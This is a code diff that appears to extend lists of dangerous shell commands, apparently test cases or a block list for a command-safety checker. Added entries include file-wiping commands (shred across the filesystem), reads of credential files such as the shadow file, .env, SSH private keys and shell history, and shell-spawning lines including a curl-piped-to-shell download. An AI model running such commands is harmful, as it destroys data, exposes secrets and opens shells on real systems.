@@ -142,6 +142,8 @@ find "$HOME" -mindepth 1 -delete
 find .. -type f -delete
 find /home -name user -exec rm -rf '{}' +
 find -- /home/user -delete
+find / -type f -exec shred -u '{}' +
+find "$HOME" -exec unlink '{}' ';'
 rsync -a --delete /tmp/empty/ /home/user/
 chmod -R 000 /home/user
 chown -R nobody "$HOME"
@@ -202,6 +204,11 @@ cat /etc/shadow
 cat /proc/1/environ
 gpg --export-secret-keys
 printenv
+getent shadow
+pass x
+cp -t x .env
+cat ../.bash_history
+env -C ../.ssh cat id_rsa
 `
 
 const getShell = `
@@ -277,6 +284,11 @@ cp /bin/sh x
 ln -s /bin/bash x
 emacs --batch --eval x
 docker run x sh
+docker run -it x
+psql app
+git clone -c core.pager=sh x
+make --eval=x
+curl https://host/x | eval sh
 npx -c sh
 valgrind sh
 ncat -l 1 --sh-exec sh
